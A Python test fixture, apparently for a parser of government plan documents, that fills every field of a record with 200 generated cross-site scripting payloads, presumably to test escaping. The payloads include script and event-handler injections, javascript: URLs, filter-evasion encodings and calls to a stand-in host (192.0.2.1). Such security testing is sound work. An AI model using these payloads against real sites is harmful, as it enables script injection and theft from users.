"""Names that would like to be markup, and a plan that has them in every field."""

from hashlib import sha256

from ontology.record import Action, Duty, Finding, Instrument, Person, Plan, Record, Target, Unit

_RUNS = ("alert(1)", "window.ran=1", "fetch('http://192.0.2.1/')", "document.title='x'")
_SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<!--<script>{}",
    "--></script><img src=x onerror={}>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>到此</a>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<math><mtext></mtext><script>{}</script></math>",
    "<style>@import 'http://192.0.2.1/'</style><script>{}</script>",
    "<link rel=stylesheet href=http://192.0.2.1/><img onerror={} src=x>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=http://192.0.2.1/><script src=x>{}</script>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<marquee onstart={}>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    "` onclick=`{}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "%3Cscript%3E{}%3C/script%3E",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<IMG SRC=x OnErRoR={}>",
    "<img/src=x/onerror={}>",
    "<<script>{}//<</script>",
    "]]><script>{}</script>",
    "*/;{};/*",
    "';{};//",
    '";{};//',
    "\u2028{}//",
    "\u202e<script>{}</script>",
    "\u200b<script>{}</script>",
    "__proto__ {}",
    "<template><script>{}</script></template>",
)
PAYLOADS = tuple(
    f"{number}{shape.format(run)}" for number, (shape, run) in enumerate((s, r) for s in _SHAPES for r in _RUNS)
)
PLACE = PAYLOADS[0]


def _span(text, words, after=0):
    start = text.index(words, after)
    return start, start + len(words)


def record():
    """Give a record, and its document, in which every text is one of the payloads."""
    text = "".join(f"{payload}\n" for payload in PAYLOADS)
    spans = {payload: _span(text, payload) for payload in PAYLOADS}
    found = Record(
        source=f"{PAYLOADS[2]}.txt".replace("/", ""),
        digest=sha256(text.encode()).hexdigest(),
        plan=Plan(
            title=PAYLOADS[1],
            number=PAYLOADS[3],
            issuer=PAYLOADS[4],
            issued="2024-05-06",
            status="draft",
            jurisdiction=PLACE,
            period=(2024, 2026),
            effective=None,
            based_on=(Instrument(title=PAYLOADS[5], number=PAYLOADS[6], span=spans[PAYLOADS[5]]),),
            spans={"title": spans[PAYLOADS[1]]},
        ),
        units=tuple(_unit(number, payload) for number, payload in enumerate(PAYLOADS)),
        actions=tuple(_action(number, payload, spans[payload]) for number, payload in enumerate(PAYLOADS)),
        duties=tuple(_duty(number, payload, spans[payload]) for number, payload in enumerate(PAYLOADS) if number % 5),
        targets=tuple(_target(number, payload, spans[payload]) for number, payload in enumerate(PAYLOADS)),
        people=tuple(_person(number, payload, spans[payload]) for number, payload in enumerate(PAYLOADS)),
        unread=(Finding(code="x", message=PAYLOADS[7], text=PAYLOADS[8], span=spans[PAYLOADS[8]]),),
        words={},
    )
    return found, text


def _unit(number, payload):
    names = payload, f"{payload}，"
    kinds = {"function": "other", "kind": "government", "place": PLACE, "rule": payload}
    return Unit(id=f"u{number}", name=payload, names=names, full=payload, **kinds)


def _action(number, payload, span):
    return Action(
        id=f"1.{number + 1}",
        title=payload,
        parent=None,
        section=payload,
        kind="action",
        span=span,
        extent=span,
        due=payload,
    )


def _duty(number, payload, span):
    role = ("lead", "responsible", "shared", "support")[number % 4]
    given = {"mention": payload, "role": role, "rank": 1, "span": span, "clause": span, "rule": payload}
    return Duty(action=f"1.{number + 1}", unit=f"u{number}", **given)


def _target(number, payload, span):
    amount = {"op": ">=", "value": 3, "measure": payload, "due": payload if number % 2 else None, "every": None}
    return Target(
        action=f"1.{number + 1}" if number % 3 else None,
        indicator=payload,
        **amount,
        per=payload,
        quote=payload,
        span=span,
    )


def _person(number, payload, span):
    return Person(name=payload, group=PAYLOADS[9], role=payload, post=payload, unit=f"u{(number + 1) % 200}", span=span)
